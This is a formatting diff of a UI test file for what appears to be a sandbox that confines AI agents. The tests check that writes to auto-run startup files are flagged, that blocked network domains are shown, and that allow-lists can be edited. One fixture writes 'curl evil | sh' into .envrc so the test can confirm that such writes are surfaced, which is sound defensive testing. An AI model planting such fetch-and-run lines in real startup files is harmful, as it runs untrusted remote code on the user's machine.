@@ -14,7 +14,8 @@ import { testUrl } from './helpers/serve';
 import { useUiFixture } from './helpers/ui-fixture';
 
 const runUi = (chromiumAvailable || chromiumRequired) && (sandboxAvailable || sandboxRequired);
-if (!runUi) console.warn(chromiumAvailable ? 'sandbox UI tests: skipped, bubblewrap cannot run here (set TANDEM_REQUIRE_SANDBOX=1 to fail instead).' : skipReason);
+if (!runUi)
+  console.warn(chromiumAvailable ? 'sandbox UI tests: skipped, bubblewrap cannot run here (set TANDEM_REQUIRE_SANDBOX=1 to fail instead).' : skipReason);
 const curl = command('curl', 'apt install curl');
 
 /**
@@ -90,7 +91,12 @@ describe.skipIf(!runUi)('Tandem UI: a confined agent’s files and network', () 
     terminalId = opened.id as string;
     await tab(terminalId).waitFor();
     expect(await tab(terminalId).locator('[data-mark="tool-files"]').count()).toBe(0);
-    expect(await call('terminal_send', { id: terminalId, text: 'echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo "all:" > Makefile' })).toMatchObject({ status: 'done', exitCode: 0 });
+    expect(
+      await call('terminal_send', {
+        id: terminalId,
+        text: 'echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo "all:" > Makefile',
+      }),
+    ).toMatchObject({ status: 'done', exitCode: 0 });
     await tab(terminalId).locator('[data-mark="tool-files"]').waitFor();
     expect(await tab(terminalId).locator('[data-mark="tool-files"]').getAttribute('title')).toContain('.envrc, .vscode/tasks.json');
     await tab(terminalId).click();
@@ -110,48 +116,60 @@ describe.skipIf(!runUi)('Tandem UI: a confined agent’s files and network', () 
     expect(await banner().textContent()).toMatch(/\.exrc/);
   }, 120_000);
 
-  it.runIf(needed(curl.present))('a connection the domain list refuses shows on the card, and the list edited there is the host’s', async () => {
-    const refused = await call('terminal_send', { id: terminalId, text: "curl -sS --max-time 20 -w ' %{http_code}' http://elsewhere.example.net/" });
-    expect(refused.output).toMatch(/not in this agent's network domain list.* 403$/s);
-    await openPanel();
-    const list = card().getByRole('region', { name: `Refused connections of ${agent}` });
-    await list.getByText('elsewhere.example.net:80').waitFor();
-    expect(await list.textContent()).toMatch(/not in its domain list/);
-    await card().locator('summary', { hasText: 'Network: only registry.npmjs.org' }).click();
-    await shoot('card');
-    // One click puts the refused host on the list; the host keeps it.
-    await list.getByRole('button', { name: `Allow elsewhere.example.net for ${agent}` }).click();
-    await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net']);
-    // Typed into the list and removed from it, read back from the host and after a reload.
-    const editor = card().getByRole('group', { name: 'Network domains' });
-    await editor.getByRole('textbox', { name: 'Add to network domains' }).fill('*.PyPI.org');
-    await editor.getByRole('button', { name: 'Add' }).click();
-    await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net', '*.pypi.org']);
-    await editor.getByRole('button', { name: 'Remove registry.npmjs.org' }).click();
-    await expect.poll(() => paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
-    await ui.page.reload();
-    await ui.page.locator('[data-connection="connected"]').waitFor();
-    await openPanel();
-    await card().locator('summary', { hasText: 'Network: only 2 domains' }).click();
-    expect(await card().getByRole('group', { name: 'Network domains' }).locator('code').allTextContents()).toEqual(['elsewhere.example.net', '*.pypi.org']);
-    // The refusal is still on the card after the reload (the host keeps it).
-    await card().getByRole('region', { name: `Refused connections of ${agent}` }).getByText('elsewhere.example.net:80').waitFor();
-    // The read list of the person's home, beside it.
-    await card().locator('summary', { hasText: 'Reads in your home: toolchains and startup files only' }).click();
-    const read = card().getByRole('group', { name: 'Readable in your home' });
-    await read.getByRole('textbox', { name: 'Add to readable in your home' }).fill('~/.config/foo');
-    await read.getByRole('button', { name: 'Add' }).click();
-    await expect.poll(() => paired()?.homeReadable).toEqual(['~/.config/foo']);
-    expect(paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
-  }, 120_000);
+  it.runIf(needed(curl.present))(
+    'a connection the domain list refuses shows on the card, and the list edited there is the host’s',
+    async () => {
+      const refused = await call('terminal_send', { id: terminalId, text: "curl -sS --max-time 20 -w ' %{http_code}' http://elsewhere.example.net/" });
+      expect(refused.output).toMatch(/not in this agent's network domain list.* 403$/s);
+      await openPanel();
+      const list = card().getByRole('region', { name: `Refused connections of ${agent}` });
+      await list.getByText('elsewhere.example.net:80').waitFor();
+      expect(await list.textContent()).toMatch(/not in its domain list/);
+      await card().locator('summary', { hasText: 'Network: only registry.npmjs.org' }).click();
+      await shoot('card');
+      // One click puts the refused host on the list; the host keeps it.
+      await list.getByRole('button', { name: `Allow elsewhere.example.net for ${agent}` }).click();
+      await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net']);
+      // Typed into the list and removed from it, read back from the host and after a reload.
+      const editor = card().getByRole('group', { name: 'Network domains' });
+      await editor.getByRole('textbox', { name: 'Add to network domains' }).fill('*.PyPI.org');
+      await editor.getByRole('button', { name: 'Add' }).click();
+      await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net', '*.pypi.org']);
+      await editor.getByRole('button', { name: 'Remove registry.npmjs.org' }).click();
+      await expect.poll(() => paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
+      await ui.page.reload();
+      await ui.page.locator('[data-connection="connected"]').waitFor();
+      await openPanel();
+      await card().locator('summary', { hasText: 'Network: only 2 domains' }).click();
+      expect(await card().getByRole('group', { name: 'Network domains' }).locator('code').allTextContents()).toEqual(['elsewhere.example.net', '*.pypi.org']);
+      // The refusal is still on the card after the reload (the host keeps it).
+      await card()
+        .getByRole('region', { name: `Refused connections of ${agent}` })
+        .getByText('elsewhere.example.net:80')
+        .waitFor();
+      // The read list of the person's home, beside it.
+      await card().locator('summary', { hasText: 'Reads in your home: toolchains and startup files only' }).click();
+      const read = card().getByRole('group', { name: 'Readable in your home' });
+      await read.getByRole('textbox', { name: 'Add to readable in your home' }).fill('~/.config/foo');
+      await read.getByRole('button', { name: 'Add' }).click();
+      await expect.poll(() => paired()?.homeReadable).toEqual(['~/.config/foo']);
+      expect(paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
+    },
+    120_000,
+  );
 
   it('shows the agent’s home, opens it, and removes it only with its terminals closed and after asking', async () => {
     await openPanel();
     // serveEnv: TANDEM_HOME is the state directory, HOME its `home`, the project inside that.
-    const files = agentFiles(stateDir({ platform: process.platform, env: { TANDEM_HOME: dirname(dirname(ui.serve.project)) }, home: dirname(ui.serve.project) }), agent);
+    const files = agentFiles(
+      stateDir({ platform: process.platform, env: { TANDEM_HOME: dirname(dirname(ui.serve.project)) }, home: dirname(ui.serve.project) }),
+      agent,
+    );
     expect(existsSync(files.home)).toBe(true);
     expect(await card().getByTestId('agent-home-path').getAttribute('title')).toBe(files.home);
-    await card().getByRole('button', { name: `Open the home of ${agent}` }).click();
+    await card()
+      .getByRole('button', { name: `Open the home of ${agent}` })
+      .click();
     await expect.poll(() => (existsSync(opener) ? readFileSync(opener, 'utf8') : '')).toBe(files.home);
     const remove = card().getByRole('button', { name: `Remove the home of ${agent}` });
     expect(await remove.isDisabled()).toBe(true);
